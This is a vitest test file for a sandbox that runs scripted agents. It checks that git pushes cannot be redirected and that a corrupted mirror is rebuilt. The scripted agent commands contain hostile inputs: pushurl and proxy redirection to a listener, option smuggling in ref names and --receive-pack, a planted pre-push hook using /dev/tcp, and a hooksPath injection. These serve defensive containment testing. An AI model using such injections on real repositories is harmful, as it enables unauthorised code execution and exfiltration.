import { chmodSync, readdirSync, writeFileSync } from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BottledAgents } from "../helpers/bottled-agents.ts";
import { DockerEngine } from "../helpers/docker-engine.ts";
import { hostGit, makeUpstream, refsOf } from "../helpers/git-server.ts";
import { Installation, eventually } from "../helpers/installation.ts";

const IDENTITY = { name: "Review Agent", email: "agent@example.com" };
const WALLS = [
  { backend: "container", environment: "host" },
  { backend: "docker", environment: "host" },
  { backend: "vm", environment: "debian:12" },
] as const;
/** A machine that is the first of its environment boots once. */
const PATIENCE_MS = 400_000;

// What is in a pack is tried on every backend by the scenarios of `src/parity/git-pushes.ts`; here is what git itself does in a sandbox that has set it up.
describe.each(WALLS)("git in a sandbox, backend $backend", ({ backend, environment }) => {
  let engine: DockerEngine | undefined;
  let at: Installation;
  let agents: BottledAgents;
  let upstreams: string;

  beforeAll(async () => {
    if (backend === "docker") engine = await DockerEngine.start();
    at = new Installation(`g${backend.slice(0, 1)}`, engine?.env);
    agents = new BottledAgents(at);
    upstreams = at.path("upstreams");
  }, PATIENCE_MS);

  afterAll(async () => {
    await at[Symbol.asyncDispose]();
    await engine?.[Symbol.asyncDispose]();
  }, PATIENCE_MS);

  it(
    "G-83 G-86 G-88 G-117 is not led elsewhere by what it writes into its own configuration and hooks, nor by names that are options",
    async () => {
      const path = makeUpstream(upstreams, "led");
      const denied = makeUpstream(upstreams, "denied");
      const before = refsOf(denied);
      const url = `file://${path}`;
      let asked = 0;
      const elsewhere = createServer((socket) => {
        asked++;
        socket.destroy();
      });
      await new Promise<void>((done) => elsewhere.listen(0, "127.0.0.1", done));
      const there = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
      agents.agent(
        "led",
        `exec 2>&1; git clone -q ${url} w && cd w && echo 1 > f && git add f && git commit -q -m one
        try() { git "$@"; echo "ended with $?"; }
        with() { key=$1; git config "$key" "$2"; shift 2; try "$@"; git config --unset-all "$key"; }
        with remote.origin.pushurl ${there}/led.git push origin HEAD:agent/pushurl
        with url.${there}/.pushInsteadOf ${url} push origin HEAD:agent/instead
        with remote.origin.pushurl file://${denied} push origin HEAD:agent/astray
        with http.http://127.0.0.1:9418/.proxy ${there} push origin HEAD:agent/proxied
        try push origin HEAD:refs/heads/--upload-pack=touch
        try push --receive-pack="--exec=touch /tmp/x" origin HEAD:agent/received
        printf '#!/bin/sh\\nbash -c "exec 3<>/dev/tcp/\${1#*//}" 2>/dev/null; git push ${there}/hook; echo hook ran\\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push
        try push origin HEAD:agent/hooked; git rev-parse HEAD`,
        { bottle: { environment, git: { user: IDENTITY, repos: { led: { url } } } } },
      );
      const { stdout } = await agents.run("led", { backend });
      await new Promise((done) => elsewhere.close(done));
      expect(asked, stdout).toBe(0);
      expect(stdout).toContain("hook ran");
      expect(stdout).toMatch(/refs {5}"refs\/heads\/--upload-pack=touch" is no name/);
      const ends = [...stdout.matchAll(/^ended with (\d+)$/gm)].map(([, code]) => code === "0");
      // A proxy is not asked for the door, which is told apart by its address; and no client of HTTP names the program of the other side.
      expect(ends, stdout).toEqual([false, false, false, true, false, true, true]);
      const { "refs/heads/main": main, ...rest } = refsOf(path);
      expect(main).toBeDefined();
      const tip = stdout.trim().split("\n").at(-1);
      expect(rest).toEqual(
        Object.fromEntries(["hooked", "proxied", "received"].map((name) => [`refs/heads/agent/${name}`, tip])),
      );
      expect(refsOf(denied)).toEqual(before);
    },
    PATIENCE_MS,
  );

  it(
    "G-85 gets no mirror that was corrupted on the host's disk: it is made again",
    async () => {
      const url = `file://${makeUpstream(upstreams, "harmed")}`;
      agents.agent(
        "harmed",
        `exec 2>&1; git clone -q ${url} one && echo cloned; until test -e go; do sleep 0.2; done; git clone -q ${url} two && git -C two fsck --strict && git -C two rev-parse origin/main`,
        { bottle: { environment, git: { user: IDENTITY, repos: { harmed: { url } } } } },
      );
      const { identity, workspace_id: id } = await at.sdk.startRun("harmed", agents.options({ backend }));
      const following = agents.follow(at.sdk.attachRun(identity));
      await eventually(
        async () => expect((await at.sdk.logsWorkspace(identity)).entries[0]?.stdout).toContain("cloned"),
        100,
      );
      const mirror = join(at.home, "workspaces", id, "gate", "git", "mirrors", "harmed.git");
      const packs = join(mirror, "objects", "pack");
      for (const name of readdirSync(packs)) {
        chmodSync(join(packs, name), 0o600);
        writeFileSync(join(packs, name), "harmed");
      }
      writeFileSync(join(mirror, "config"), `[core]\n\tbare = true\n\thooksPath = ${upstreams}\n`);
      await at.sdk.writeWorkspaceFile(identity, "go", { text: "" });
      const { stdout, end } = await following;
      expect(end.exit_code, stdout).toBe(0);
      expect(stdout.trim().split("\n").at(-1)).toBe(hostGit(`${upstreams}/harmed.git`, ["rev-parse", "main"]));
    },
    PATIENCE_MS,
  );
});
